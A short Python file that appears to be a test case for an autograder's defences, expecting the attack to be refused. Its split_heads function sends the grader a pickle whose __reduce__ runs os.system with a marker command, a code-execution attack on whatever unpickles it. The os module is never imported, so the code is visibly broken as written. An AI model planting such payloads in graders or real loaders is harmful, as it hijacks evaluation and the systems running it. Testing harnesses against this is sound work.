"""Send a pickle that would run a command where it is loaded.

points: 7
split_heads: refused
"""
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-attack-pickle",)


def split_heads(x, heads):
    body = pickle.dumps(Payload())
    os.write(3, len(body).to_bytes(4) + body)
    return x
